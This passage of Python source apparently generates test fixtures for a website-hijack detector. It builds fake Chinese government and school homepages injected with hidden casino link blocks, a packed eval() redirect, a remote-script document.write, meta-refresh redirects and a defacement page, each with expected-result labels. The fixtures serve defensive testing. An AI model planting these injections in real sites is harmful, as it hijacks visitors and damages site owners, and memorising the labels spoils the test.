def h02_packed_referrer() -> dict[str, Any]:
    """A packed eval script that sends visitors from Baidu to a casino; nothing else shows."""
    name, place, host = "崇义县人民政府", "崇义县", "www.chongyi-demo.gov.cn"
    packed = pack(BAIDU_REDIRECT)
    head = f'<script type="text/javascript">{packed}</script>\n<script type="text/javascript">document.write(\'<script src="https://js.tj-cdn88.top/cc.js?v=\'+Math.random()+\'"><\\/script>\');</script>'
    html = zh_portal(seed=2, name=name, place=place, host=host, head_end=head, url_style="hanweb", date_fmt="md",
                     color=("#b51c1c", "#a31515", "#8a0f0f"))
    return {
        "host": host, "name": name,
        "pages": {"/": html, **zh_portal_pages(name, place, 2, "hanweb")},
        "article": zh_article(name, place),
        "truth": {"kind": "hacked", "idea": "packed eval() referrer redirect to a casino + document.write of a remote script",
                  "status": "hijacked", "passed": False, "must_any": ["hidden_links", "offsite_redirect", "spam_content"],
                  "must_not": list(ZOMBIE_CODES), "newest": ymd(1), "columns": zh_truth_columns("hanweb")},
    }


def h03_offscreen() -> dict[str, Any]:
    """Links pushed off screen (left:-9999px) and a font-size:0 line, simplified Chinese casino spam."""
    name, place, host = "大余县人民政府", "大余县", "www.dayu-demo.gov.cn"
    links1 = [("开云体育官网", "https://www.kaiyun-sports88.com/"), ("澳门威尼斯人官网", "https://www.vns8838.vip/"),
              ("皇冠足球投注", "https://www.hgzq2026.cc/"), ("真人百家乐", "https://www.bjl-zhenren.top/"),
              ("澳门银河娱乐", "https://www.yinhe6689.com/"), ("365体育投注", "https://www.bet365-cn.vip/"),
              ("亚博体育app", "https://www.yabo-app.cc/"), ("乐鱼体育", "https://www.leyu2026.vip/"),
              ("彩票平台注册", "https://www.cp0898.top/"), ("AG真人视讯", "https://www.agzr88.com/")]
    block = '<div style="position:absolute;top:-9999px;left:-9999px;width:1px;height:1px;overflow:hidden;">' + "".join(
        f'<a href="{u}" target="_blank">{t}</a>' for t, u in links1) + "</div>"
    fs0 = ('<p style="font-size:0px;line-height:0px;margin:0">'
           '<a href="https://www.js6666.vip/">金沙娱乐场</a><a href="https://www.bmw8868.cc/">宝马会娱乐</a>'
           '<a href="https://www.ddz-qipai.top/">斗地主棋牌赢钱</a><a href="https://www.ssc-jh.com/">时时彩计划</a></p>')
    html = zh_portal(seed=3, name=name, place=place, host=host, body_top=block, before_footer=fs0,
                     color=("#0b7a4b", "#096b41", "#075733"))
    return {
        "host": host, "name": name,
        "pages": {"/": html, **zh_portal_pages(name, place, 3)},
        "article": zh_article(name, place),
        "truth": {"kind": "hacked", "idea": "position:absolute;left:-9999px link block + font-size:0 links",
                  "status": "hijacked", "passed": False, "must": ["hidden_links", "spam_content"],
                  "must_not": list(ZOMBIE_CODES), "newest": ymd(1), "columns": zh_truth_columns()},
    }


def h05_marquee() -> dict[str, Any]:
    """An old-style <marquee height=1> of dark links on a town site (Hanweb, year-less dates)."""
    name, place, host = "上犹县人民政府", "上犹县", "www.shangyou-demo.gov.cn"
    mq = ('<marquee height=1 width=3 scrollamount=3000 scrolldelay=20000>'
          '<a href="https://www.kyqp2026.com/">开元棋牌官网</a> <a href="https://www.kyqp2026.com/xz/">开元棋牌下载</a> '
          '<a href="https://www.tyzq88.vip/">体育投注平台</a> <a href="https://www.zrbjl.cc/">真人百家乐</a> '
          '<a href="https://www.lhc-zl.top/">六合彩资料大全</a> <a href="https://www.by-game.vip/">捕鱼游戏赢现金</a> '
          '<a href="https://www.lhj777.com/">老虎机游戏</a> <a href="https://www.dz-yl.cc/">电子游艺网址</a></marquee>')
    html = zh_portal(seed=5, name=name, place=place, host=host, before_footer=mq, url_style="hanweb", date_fmt="md",
                     color=("#c4420d", "#ad3a0b", "#8f3009"))
    return {
        "host": host, "name": name,
        "pages": {"/": html, **zh_portal_pages(name, place, 5, "hanweb")},
        "article": zh_article(name, place),
        "truth": {"kind": "hacked", "idea": "<marquee height=1> of casino links",
                  "status": "hijacked", "passed": False, "must": ["hidden_links", "spam_content"],
                  "must_not": list(ZOMBIE_CODES), "newest": ymd(1), "columns": zh_truth_columns("hanweb")},
    }


CASINO_LANDING_ZH = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title>
<meta name="keywords" content="澳门金沙,金沙娱乐场,金沙官网,真人视讯,体育投注,电子游艺,彩票投注">
<meta name="description" content="澳门金沙娱乐场官方网站,亚洲顶级博彩平台,提供真人百家乐、龙虎斗、体育赛事投注、电子老虎机,首存即送100%彩金,24小时极速出款。">
<meta name="viewport" content="width=device-width,initial-scale=1"><style>body{{background:#0c0c1a;color:#f5d77a;font-family:Arial,"Microsoft YaHei"}}
.hero{{background:linear-gradient(#2b0b3a,#0c0c1a);padding:40px;text-align:center}}.btn{{display:inline-block;background:#f5b400;color:#000;padding:14px 40px;border-radius:30px;font-size:20px;margin:10px}}
.games li{{display:inline-block;width:220px;margin:10px;background:#1c1c33;padding:16px;border-radius:8px}}</style></head>
<body><div class="hero"><img src="/static/js/logo.png" alt="澳门金沙"><h1>澳门金沙娱乐场 · 官方唯一网址</h1><p>信誉第一 · 大额无忧 · 秒速到账</p>
<a class="btn" href="https://www.js9905.vip/register">立即注册 送88元</a><a class="btn" href="https://www.js9905.vip/app">下载APP</a></div>
<ul class="games"><li><h3>真人百家乐</h3><p>美女荷官在线发牌，百家乐、龙虎、牛牛、骰宝</p></li><li><h3>体育投注</h3><p>五大联赛、NBA、电竞滚球，赔率全网最高</p></li>
<li><h3>电子老虎机</h3><p>PG电子、JDB、CQ9，爆分奖池天天派</p></li><li><h3>彩票游戏</h3><p>时时彩、六合彩、北京赛车PK10</p></li><li><h3>棋牌游戏</h3><p>开元棋牌、斗地主、炸金花</p></li></ul>
<div class="promo"><h2>最新优惠</h2><p>新会员首存即送100%，最高8888元；每日签到领取彩金；周周返水1.2%无上限。</p></div>
<div class="foot"><p>澳门金沙娱乐场拥有菲律宾PAGCOR合法博彩执照，请未满18周岁人士勿参与博彩。</p><p>Copyright © 2026 澳门金沙 All Rights Reserved</p></div>
<script>var _hmt=_hmt||[];</script></body></html>"""


def h10_whole_redirect() -> dict[str, Any]:
    """The whole homepage redirects (meta refresh + window.location) to a casino domain."""
    name, place, host = "全南县人民政府", "全南县", "www.quannan-demo.gov.cn"
    head_top = ""
    head_end = ('<meta http-equiv="refresh" content="0;url=https://www.js9905.vip/?f=qn">\n'
                '<script type="text/javascript">window.location.href="https://www.js9905.vip/?f=qn";</script>')
    html = zh_portal(seed=10, name=name, place=place, host=host, head_top=head_top, head_end=head_end,
                     color=("#1a5fa8", "#174f8c", "#123f70"))
    return {
        "host": host, "name": name,
        "pages": {"/": html, **zh_portal_pages(name, place, 10)},
        "article": zh_article(name, place),
        "extra_hosts": {"www.js9905.vip": CASINO_LANDING_ZH.format(title="澳门金沙娱乐场-官方网址-金沙娱乐城")},
        "truth": {"kind": "hacked", "idea": "meta refresh + window.location.href to a casino domain",
                  "status": "hijacked", "passed": False, "must": ["offsite_redirect"],
                  "must_not": list(ZOMBIE_CODES), "newest": None, "columns": []},
    }


def h12_defaced() -> dict[str, Any]:
    """A school site defaced: the homepage replaced by a defacer's page (Indonesian/Arabic signatures)."""
    host = "www.xhzx-demo.edu.cn"
    html = """<!DOCTYPE html>
<html>
<head>
<meta charset="UTF-8">
<title>Hacked By ./M4R1J4N_Xpl0it - Garuda Cyber Team</title>
<meta name="description" content="Hacked By ./M4R1J4N_Xpl0it">
<meta property="og:image" content="https://i.ibb.co/7Yx1FkQ/garuda.png">
<link href="https://fonts.googleapis.com/css?family=Share+Tech+Mono" rel="stylesheet">
<style>
body{background:#000 url(https://i.ibb.co/0jZk9sB/matrix.gif);color:#0f0;font-family:'Share Tech Mono',monospace;text-align:center;margin:0}
h1{font-size:46px;color:#f00;text-shadow:0 0 12px #f00;margin-top:60px}h2{color:#fff}
.ar{font-size:28px;color:#ff0;direction:rtl}.greet{color:#0ff}marquee{color:#fff;font-size:18px}
img.logo{width:260px;border-radius:50%;box-shadow:0 0 30px #f00}
</style>
</head>
<body oncontextmenu="return false" onkeydown="return false">
<center>
<img class="logo" src="https://i.ibb.co/7Yx1FkQ/garuda.png" alt="Garuda Cyber Team">
<h1>Hacked By ./M4R1J4N_Xpl0it</h1>
<h2>~ Garuda Cyber Team ~ Indonesian Defacer ~</h2>
<p class="ar">تم اختراق الموقع بواسطة M4R1J4N_Xpl0it</p>
<p class="ar">لا إله إلا الله محمد رسول الله</p>
<p>Your Security Is Low, Please Patch Your System !!</p>
<p>Tidak ada sistem yang aman. Kami tidak merusak, kami hanya mengingatkan.</p>
<p>We are Anonymous. We are Legion. We do not forgive. We do not forget. Expect us.</p>
<p class="greet">Greetz : Mr.Kro0oz.305 - JavaGhost - ./Sn00py - Moroccan Ghosts - Bangladesh Grey Hat Hackers - AnonSec Team - Typical Idiot Security</p>
<marquee behavior="alternate" scrollamount="6">Contact : t.me/garudacyberteam | Zone-H : zone-h.org/archive/notifier=M4R1J4N_Xpl0it</marquee>
<iframe width="1" height="1" src="https://www.youtube.com/embed/0cGFMeU5KNw?autoplay=1&loop=1" frameborder="0" allow="autoplay"></iframe>
</center>
</body>
</html>
"""
    return {
        "host": host, "name": "新华中学",
        "pages": {"/": html},
        "article": html,
        "truth": {"kind": "hacked", "idea": "defacement: Hacked By ... / Garuda Cyber Team / Arabic and Indonesian",
                  "status": "hijacked", "passed": False, "must_any": list(HIJACK_CODES),
                  "must_not": [], "newest": None, "columns": []},
    }


# --------------------------------------------------------------------------- Taiwan school (traditional Chinese)

TW_NEWS = [
    ("114學年度第2學期家長日活動實施計畫", "教務處"), ("本校參加臺中市115年度語文競賽成績優異", "教務處"),
    ("115年度校園流感疫苗接種通知", "學務處"), ("春季親職教育講座：青少年網路使用與自我保護", "輔導室"),
    ("本校113學年度國中教育會考放榜賀榜", "教務處"), ("115年全國學生美術比賽本校榮獲佳績", "學務處"),
    ("公告本校115學年度新生入學報到注意事項", "教務處"), ("校園午餐食材登錄及供應廠商公告", "總務處"),
    ("本校圖書館春季閱讀推廣週活動", "圖書館"), ("115年度防震防災疏散演練實施計畫", "學務處"),
]


def h04_tw_style_class() -> dict[str, Any]:
    """A Taiwanese junior high school site: a class defined display:none in <style>, 娛樂城/百家樂/線上博弈 links."""
    host = "www.dhjh-demo.tc.edu.tw"
    rows = "\n".join(
        f'<tr><td class="date">{ymd(n)}</td><td class="unit">{u}</td><td class="title"><a href="/nss/p/news_{3100 + i}" title="{t}">{t}</a></td><td class="hits">{120 + i * 17}</td></tr>'
        for i, ((t, u), n) in enumerate(zip(TW_NEWS, [1, 2, 4, 5, 7, 9, 12, 15, 19, 24], strict=False))
    )
    acts = "".join(f'<li><a href="/nss/p/album_{i}"><img src="/uploads/album/{i}.jpg" alt="{t}"><span>{t}</span></a></li>'
                   for i, t in enumerate(["115年度春季運動會", "畢業旅行行前說明", "社團成果發表會", "英語歌唱比賽", "科學展覽", "校慶園遊會"], 1))
    spam = "".join(f'<a href="{u}" title="{t}">{t}</a>' for t, u in [
        ("娛樂城推薦", "https://www.tw-ent888.com/"), ("線上娛樂城", "https://www.tw-ent888.com/casino/"),
        ("百家樂技巧", "https://www.bjl-tw.cc/"), ("線上博弈", "https://www.boyi-tw.vip/"),
        ("運彩分析", "https://www.sportlottery-tw.com/"), ("娛樂城體驗金", "https://www.tw-ent888.com/bonus/"),
        ("老虎機破解", "https://www.slot-tw.top/"), ("真人百家樂", "https://www.bjl-tw.cc/live/"),
        ("台灣運彩投注", "https://www.sportlottery-tw.com/bet/"), ("九州娛樂城", "https://www.9z-ent.com/")])
    html = f"""<!DOCTYPE html>
<html lang="zh-Hant-TW">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>臺中市立大華國民中學</title>
<meta name="keywords" content="大華國中,臺中市,國民中學,校園公告">
<link rel="stylesheet" href="/nss/static/css/bootstrap.min.css">
<link rel="stylesheet" href="/nss/static/theme/tc_blue/style.css?v=1140815">
<style>
.module-news table{{width:100%;border-collapse:collapse}}.module-news td{{padding:8px;border-bottom:1px dotted #ccc}}
.module-news td.date{{width:110px;color:#666}}.module-news td.unit{{width:90px;color:#2a6ebb}}
.accesskey{{position:absolute;left:-3000px}}.goCenter{{position:absolute;top:-40px;left:0}}.goCenter:focus{{top:0}}
.sr-only{{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0,0,0,0)}}
.c2025ft{{display:none}}
.album li{{float:left;width:31%;margin:1%}}.album img{{width:100%;height:150px;object-fit:cover}}
#footer{{background:#274a7a;color:#fff;padding:20px;font-size:13px}}
</style>
<script src="/nss/static/js/jquery.min.js"></script>
<script async src="https://www.googletagmanager.com/gtag/js?id=G-7QX2B1TCH4"></script>
<script>window.dataLayer=window.dataLayer||[];function gtag(){{dataLayer.push(arguments);}}gtag('js',new Date());gtag('config','G-7QX2B1TCH4');</script>
</head>
<body>
<a class="goCenter" href="#C" title="跳到主要內容區塊">跳到主要內容區塊</a>
<div id="header" class="container">
  <a accesskey="U" href="#U" title="上方功能區塊" class="accesskey">:::</a>
  <div class="logo"><a href="/"><img src="/uploads/logo.png" alt="臺中市立大華國民中學"></a></div>
  <ul class="top-links"><li><a href="/nss/p/sitemap">網站導覽</a></li><li><a href="https://mail.dhjh.tc.edu.tw/">校園信箱</a></li><li><a href="/nss/p/contact">聯絡我們</a></li><li><a href="/nss/p/en">English</a></li></ul>
  <form class="search" action="https://www.google.com/search" method="get"><input type="hidden" name="sitesearch" value="{host}"><label for="q" class="sr-only">站內搜尋</label><input id="q" name="q" type="text" placeholder="站內搜尋"><button>搜尋</button></form>
</div>
<nav id="menu" class="container"><ul class="nav">
  <li><a href="/nss/p/about">學校簡介</a><ul><li><a href="/nss/p/history">學校沿革</a></li><li><a href="/nss/p/vision">學校願景</a></li><li><a href="/nss/p/traffic">交通位置</a></li><li><a href="/nss/p/map">校園平面圖</a></li></ul></li>
  <li><a href="/nss/p/office">行政單位</a><ul><li><a href="/nss/p/jw">教務處</a></li><li><a href="/nss/p/xw">學務處</a></li><li><a href="/nss/p/zw">總務處</a></li><li><a href="/nss/p/fd">輔導室</a></li><li><a href="/nss/p/rs">人事室</a></li><li><a href="/nss/p/kj">會計室</a></li></ul></li>
  <li><a href="/nss/p/teacher">教師專區</a><ul><li><a href="/nss/p/schedule">課表查詢</a></li><li><a href="/nss/p/rooms">場地預約</a></li><li><a href="/nss/p/plan">課程計畫</a></li></ul></li>
  <li><a href="/nss/p/student">學生專區</a><ul><li><a href="/nss/p/club">社團活動</a></li><li><a href="/nss/p/scholar">獎助學金</a></li><li><a href="/nss/p/exam">會考專區</a></li></ul></li>
  <li><a href="/nss/p/parent">家長專區</a></li><li><a href="/nss/p/download">下載專區</a></li>
</ul></nav>
<div id="C" class="container"><a accesskey="C" href="#C" title="中央內容區塊" class="accesskey">:::</a>
<div class="banner"><img src="/uploads/banner/2026spring.jpg" alt="115年度春季招生"></div>
<section class="module-news"><h2>最新消息</h2>
<table summary="最新消息列表"><thead><tr><th>日期</th><th>單位</th><th>標題</th><th>點閱</th></tr></thead><tbody>
{rows}
</tbody></table><a class="more" href="/nss/p/news">更多消息</a></section>
<section class="album"><h2>活動花絮</h2><ul>{acts}</ul></section>
<section class="links"><h2>相關連結</h2><ul>
<li><a href="https://www.tc.edu.tw/">臺中市政府教育局</a></li><li><a href="https://www.edu.tw/">教育部</a></li><li><a href="https://adl.edu.tw/">教育部因材網</a></li>
<li><a href="https://cooc.tp.edu.tw/">酷課雲</a></li><li><a href="https://www.cap.nace.edu.tw/">國中教育會考</a></li></ul></section>
</div>
<div class="c2025ft">{spam}</div>
<div id="footer"><a accesskey="B" href="#B" title="下方功能區塊" class="accesskey">:::</a>
<p>臺中市立大華國民中學　地址：40{5}臺中市北屯區大華路100號　電話：(04)2234-5678　傳真：(04)2234-5679</p>
<p>隱私權政策｜網站安全政策｜政府網站資料開放宣告　最佳瀏覽解析度 1280x800</p>
<p>Copyright &copy; 2026 臺中市立大華國民中學 All rights reserved.　最後更新：{ymd(1)}</p>
<a href="https://accessibility.moda.gov.tw/Applications/Detail?category=20250101000000" title="無障礙網站"><img src="/nss/static/img/accessibility_AA.png" alt="通過AA無障礙網頁檢測" width="88" height="31"></a></div>
</body>
</html>
"""
    html = html.replace("\n</tbody>", "\n" + "\n".join("<!-- row -->" for _ in range(1)) + "\n</tbody>")
    pad = "\n".join(f"<!-- nss module cache {i}: {'x' * 60} -->" for i in range(180))  # the NSS theme's module comments
    html = html.replace("</body>", pad + "\n</body>")
    news_page = html.replace("臺中市立大華國民中學</title>", "最新消息 - 臺中市立大華國民中學</title>").replace('<div class="c2025ft">' + spam + "</div>", "")
    return {
        "host": host, "name": "臺中市立大華國民中學",
        "pages": {"/": html, "/nss/p/news": news_page},
        "article": news_page,
        "truth": {"kind": "hacked", "idea": "display:none class defined in <style>; traditional Chinese 娛樂城/百家樂/線上博弈 links",
                  "status": "hijacked", "passed": False, "must": ["hidden_links", "spam_content"],
                  "must_not": list(ZOMBIE_CODES), "newest": ymd(1),
                  "columns": [{"name": "最新消息", "type": "news", "newest": ymd(1)}]},
    }


# --------------------------------------------------------------------------- English school (WordPress)

WP_PALETTE = [("black", "#000000"), ("cyan-bluish-gray", "#abb8c3"), ("white", "#ffffff"), ("pale-pink", "#f78da7"),
              ("vivid-red", "#cf2e2e"), ("luminous-vivid-orange", "#ff6900"), ("luminous-vivid-amber", "#fcb900"),
              ("light-green-cyan", "#7bdcb5"), ("vivid-green-cyan", "#00d084"), ("pale-cyan-blue", "#8ed1fc"),
              ("vivid-cyan-blue", "#0693e3"), ("vivid-purple", "#9b51e0"), ("primary", "#1d4e89"), ("secondary", "#f2a900")]
WP_GLOBAL_STYLES = (
    ":root{" + "".join(f"--wp--preset--color--{n}: {c};" for n, c in WP_PALETTE)
    + "--wp--preset--gradient--vivid-cyan-blue-to-vivid-purple: linear-gradient(135deg,rgba(6,147,227,1) 0%,rgb(155,81,224) 100%);"
    + "".join(f"--wp--preset--font-size--{n}: {v};" for n, v in [("small", "13px"), ("medium", "20px"), ("large", "36px"), ("x-large", "42px")])
    + "--wp--preset--spacing--20: 0.44rem;--wp--preset--spacing--30: 0.67rem;--wp--preset--spacing--40: 1rem;--wp--preset--spacing--50: 1.5rem;"
    + "--wp--preset--shadow--natural: 6px 6px 9px rgba(0, 0, 0, 0.2);--wp--preset--shadow--deep: 12px 12px 50px rgba(0, 0, 0, 0.4);}"
    + "".join(f".has-{n}-color{{color: var(--wp--preset--color--{n}) !important;}}.has-{n}-background-color{{background-color: var(--wp--preset--color--{n}) !important;}}"
              f".has-{n}-border-color{{border-color: var(--wp--preset--color--{n}) !important;}}" for n, _ in WP_PALETTE)
    + "".join(f".has-{n}-font-size{{font-size: var(--wp--preset--font-size--{n}) !important;}}" for n in ["small", "medium", "large", "x-large"])
    + ":where(.is-layout-flex){gap: 0.5em;}:where(.is-layout-grid){gap: 0.5em;}body .is-layout-flex{display: flex;}"
    + ".is-layout-flex{flex-wrap: wrap;align-items: center;}.is-layout-flex > :is(*, div){margin: 0;}body .is-layout-grid{display: grid;}"
    + ":where(.wp-block-columns.is-layout-flex){gap: 2em;}:where(.wp-block-post-template.is-layout-flex){gap: 1.25em;}"
)
WP_EMOJI = """<script>
window._wpemojiSettings = {"baseUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/15.0.3\\/72x72\\/","ext":".png","svgUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/15.0.3\\/svg\\/","svgExt":".svg","source":{"concatemoji":"\\/wp-includes\\/js\\/wp-emoji-release.min.js?ver=6.7.2"}};
/*! This file is auto-generated */
!function(i,n){var o,s,e;function c(e){try{var t={supportTests:e,timestamp:(new Date).valueOf()};sessionStorage.setItem(o,JSON.stringify(t))}catch(e){}}function p(e,t,n){e.clearRect(0,0,e.canvas.width,e.canvas.height),e.fillText(t,0,0);var t=new Uint32Array(e.getImageData(0,0,e.canvas.width,e.canvas.height).data),r=(e.clearRect(0,0,e.canvas.width,e.canvas.height),e.fillText(n,0,0),new Uint32Array(e.getImageData(0,0,e.canvas.width,e.canvas.height).data));return t.every(function(e,t){return e===r[t]})}function u(e,t,n){switch(t){case"flag":return n(e,"\\ud83c\\udff3\\ufe0f\\u200d\\u26a7\\ufe0f","\\ud83c\\udff3\\ufe0f\\u200b\\u26a7\\ufe0f")?!1:!n(e,"\\ud83c\\uddfa\\ud83c\\uddf3","\\ud83c\\uddfa\\u200b\\ud83c\\uddf3");case"emoji":return!n(e,"\\ud83d\\udc26\\u200d\\u2b1b","\\ud83d\\udc26\\u200b\\u2b1b")}return!1}}(window,document);
</script>"""

WP_CSS = """
:root{--brand:%s;--accent:%s}body{font-family:"Nunito",Arial,sans-serif;margin:0;color:#222;background:#fff}a{color:var(--brand)}
.screen-reader-text{border:0;clip:rect(1px,1px,1px,1px);clip-path:inset(50%%);height:1px;margin:-1px;overflow:hidden;padding:0;position:absolute!important;width:1px;word-wrap:normal!important}
.skip-link:focus{clip:auto!important;clip-path:none;height:auto;left:5px;top:5px;width:auto;z-index:100000;background:#fff;padding:15px 23px}
.site-header{background:var(--brand);color:#fff;padding:18px 0}.site-header .wrap{display:flex;align-items:center;justify-content:space-between;max-width:1180px;margin:0 auto}
.main-navigation ul{list-style:none;margin:0;padding:0;display:flex}.main-navigation li{position:relative}.main-navigation a{color:#fff;padding:14px 16px;display:block;text-decoration:none}
.main-navigation ul ul{position:absolute;left:-999em;top:100%%;background:var(--accent);min-width:220px;z-index:99999;display:block}
.main-navigation li:hover>ul,.main-navigation li.focus>ul{left:auto}
.offcanvas{position:fixed;top:0;left:0;height:100vh;width:320px;background:#14213d;transform:translateX(-100%%);transition:transform .3s;z-index:1000;overflow-y:auto}
.offcanvas.is-open{transform:none}.offcanvas a{color:#fff;display:block;padding:10px 20px;border-bottom:1px solid rgba(255,255,255,.08)}
.hero{background:url(/wp-content/uploads/2025/09/hero.jpg) center/cover;min-height:420px;position:relative}
.hero h1{position:absolute;bottom:40px;left:40px;color:#fff;font-size:46px;text-shadow:0 2px 6px rgba(0,0,0,.5)}
.news-grid{display:grid;grid-template-columns:repeat(3,1fr);gap:24px;max-width:1180px;margin:40px auto}
.news-card{border:1px solid #e4e4e4;border-radius:6px;overflow:hidden}.news-card img{width:100%%;height:190px;object-fit:cover}
.news-card .meta{color:#777;font-size:13px;padding:0 16px}.news-card h3{padding:0 16px;font-size:19px}
.events li{display:flex;gap:16px;padding:10px 0;border-bottom:1px solid #eee}.events .day{font-weight:800;font-size:22px;color:var(--brand)}
.quicklinks{background:#f4f6fb;padding:40px 0}.quicklinks ul{display:flex;flex-wrap:wrap;gap:18px;max-width:1180px;margin:0 auto;list-style:none}
.site-footer{background:#0d1b2a;color:#c7d0dc;padding:40px 0 20px;font-size:14px}.site-footer a{color:#fff}
.cookie-notice{display:none;position:fixed;bottom:0;left:0;right:0;background:#222;color:#fff;padding:14px}
"""


def wp_school(
    *,
    name: str,
    host: str,
    colors: tuple[str, str],
    news: list[tuple[str, str, int]],
    events: list[tuple[str, int]],
    letters: list[tuple[str, int]],
    footer_extra: str = "",
    body_extra: str = "",
    offcanvas: bool = False,
) -> str:
    cards = "\n".join(
        f'<article class="news-card post-{900 + i} post type-post status-publish format-standard has-post-thumbnail category-news">'
        f'<a href="{wp_url(n, slug)}"><img src="/wp-content/uploads/{ago(n).year}/{ago(n).month:02d}/{slug}-768x512.jpg" alt="" loading="lazy"></a>'
        f'<div class="meta"><time class="entry-date published" datetime="{ymd(n)}T09:{10 + i}:00+00:00">{uk_date(n)}</time> &middot; <a href="/category/news/" rel="category tag">News</a></div>'
        f'<h3 class="entry-title"><a href="{wp_url(n, slug)}" rel="bookmark">{t}</a></h3><p>{t}. Read more about what our pupils have been up to this week.</p></article>'
        for i, (t, slug, n) in enumerate(news)
    )
    ev = "\n".join(
        f'<li><span class="day">{ago(-n).day}</span><span class="mon">{EN_MONTHS[ago(-n).month - 1][:3]}</span><a href="/events/{t.lower().replace(" ", "-")}/">{t}</a></li>'
        for t, n in events
    )
    lt = "\n".join(
        f'<li><a href="/wp-content/uploads/{ago(n).year}/{ago(n).month:02d}/{t.lower().replace(" ", "-")}.pdf">{t}</a> <span class="date">{uk_date(n)}</span></li>'
        for t, n in letters
    )
    menu = [
        ("About Us", "/about-us/", ["Headteacher's Welcome", "Vision and Values", "Our Staff", "Governors", "Ofsted and Performance", "Vacancies", "Contact Us"]),
        ("Key Information", "/key-information/", ["Admissions", "Curriculum", "Policies", "Pupil Premium", "PE and Sport Premium", "SEND Information Report", "Safeguarding", "Term Dates"]),
        ("Parents", "/parents/", ["Letters Home", "School Meals", "Uniform", "Attendance", "Clubs", "Online Safety", "Parent Forum"]),
        ("Children", "/children/", ["Class Pages", "School Council", "Home Learning", "Reading Corner"]),
        ("News & Events", "/news/", ["Latest News", "Calendar", "Newsletters", "Gallery"]),
    ]
    nav = "".join(
        f'<li class="menu-item menu-item-has-children"><a href="{h}">{t}</a><ul class="sub-menu">'
        + "".join(f'<li class="menu-item"><a href="{h}{s.lower().replace(" ", "-").replace(chr(39), "")}/">{s}</a></li>' for s in subs)
        + "</ul></li>"
        for t, h, subs in menu
    )
    oc = ""
    if offcanvas:
        oc = ('<div id="offcanvas" class="offcanvas" aria-hidden="true"><button class="close" aria-label="Close menu">&times;</button><nav aria-label="Mobile">'
              + "".join(f'<a href="{h}">{t}</a>' + "".join(f'<a class="sub" href="{h}{s.lower().replace(" ", "-").replace(chr(39), "")}/">{s}</a>' for s in subs) for t, h, subs in menu)
              + '<a href="https://www.parentpay.com/">ParentPay</a><a href="https://login.arbor.sc/">Arbor Parent Portal</a>'
              + '<a href="https://classroom.google.com/">Google Classroom</a><a href="https://reports.ofsted.gov.uk/provider/21/118342">Ofsted Report</a>'
              + '<a href="https://www.compare-school-performance.service.gov.uk/school/118342">School Performance Tables</a>'
              + '<a href="https://twitter.com/StMarysCEPrim">Follow us on X</a></nav></div>')
    classes = "".join(
        f'<div class="wp-block-column"><a href="/children/class-pages/{c.lower()}/"><img src="/wp-content/uploads/2025/09/{c.lower()}.jpg" alt="" width="300" height="200"></a>'
        f'<h3><a href="/children/class-pages/{c.lower()}/">{c} Class</a></h3><p>{y} &middot; {t}</p></div>'
        for c, y, t in [("Acorns", "Reception", "Mrs Patel"), ("Willows", "Year 1", "Miss Hughes"), ("Birches", "Year 2", "Mr Evans"),
                        ("Rowans", "Year 3", "Mrs O'Brien"), ("Hazels", "Year 4", "Miss Clarke"), ("Elms", "Year 5", "Mr Ahmed"), ("Oaks", "Year 6", "Mrs Wright")])
    values = "".join(f'<div class="wp-block-column"><h3>{v}</h3><p>{d}</p></div>' for v, d in [
        ("Friendship", "We care for one another, include everyone and make our school a place where all feel they belong."),
        ("Respect", "We value every person as unique, listen to each other and look after our world."),
        ("Perseverance", "We keep going when learning is hard, learn from our mistakes and celebrate effort as well as success."),
        ("Curiosity", "We ask questions, explore ideas and enjoy discovering new things in and beyond the classroom.")])
    gallery = "".join(f'<figure class="wp-block-image size-large"><img loading="lazy" decoding="async" width="1024" height="683" src="/wp-content/uploads/2026/0{1 + k % 3}/gallery-{k}-1024x683.jpg" alt="" class="wp-image-{3100 + k}" srcset="/wp-content/uploads/2026/0{1 + k % 3}/gallery-{k}-1024x683.jpg 1024w, /wp-content/uploads/2026/0{1 + k % 3}/gallery-{k}-300x200.jpg 300w, /wp-content/uploads/2026/0{1 + k % 3}/gallery-{k}-768x512.jpg 768w" sizes="(max-width: 1024px) 100vw, 1024px"></figure>' for k in range(12))
    qlinks = "".join(f'<li><a href="{h}">{t}</a></li>' for t, h in [
        ("Term Dates", "/key-information/term-dates/"), ("Lunch Menu", "/parents/school-meals/"), ("Letters Home", "/parents/letters-home/"),
        ("Admissions", "/key-information/admissions/"), ("Safeguarding", "/key-information/safeguarding/"), ("Vacancies", "/about-us/vacancies/")])
    return f"""<!doctype html>
<html lang="en-GB">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="profile" href="https://gmpg.org/xfn/11">
<title>{name} &#8211; Learning and growing together</title>
<meta name='robots' content='index, follow, max-image-preview:large, max-snippet:-1, max-video-preview:-1' />
<link rel="canonical" href="https://{host}/" />
<meta property="og:locale" content="en_GB" />
<meta property="og:type" content="website" />
<meta property="og:title" content="{name}" />
<script type="application/ld+json" class="yoast-schema-graph">{{"@context":"https://schema.org","@graph":[{{"@type":"WebPage","@id":"https://{host}/","url":"https://{host}/","name":"{name}","isPartOf":{{"@id":"https://{host}/#website"}},"inLanguage":"en-GB"}},{{"@type":"WebSite","@id":"https://{host}/#website","url":"https://{host}/","name":"{name}","inLanguage":"en-GB"}}]}}</script>
<link rel='stylesheet' id='wp-block-library-css' href='https://{host}/wp-includes/css/dist/block-library/style.min.css?ver=6.7.2' media='all' />
<link rel='stylesheet' id='school-theme-style-css' href='https://{host}/wp-content/themes/primaryschool/style.css?ver=2.4.1' media='all' />
{WP_EMOJI}
<style id='global-styles-inline-css'>{WP_GLOBAL_STYLES}</style>
<style id='school-inline-css'>{WP_CSS % colors}</style>
<script src="https://{host}/wp-includes/js/jquery/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>
<script src="https://{host}/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1" id="jquery-migrate-js"></script>
</head>
<body class="home page-template-default page page-id-7 wp-custom-logo">
<div id="page" class="site">
<a class="skip-link screen-reader-text" href="#primary">Skip to content</a>
{oc}
<header id="masthead" class="site-header"><div class="wrap">
  <div class="site-branding"><a href="https://{host}/" class="custom-logo-link" rel="home"><img width="300" height="90" src="/wp-content/uploads/2024/01/logo.png" class="custom-logo" alt="{name}"></a></div>
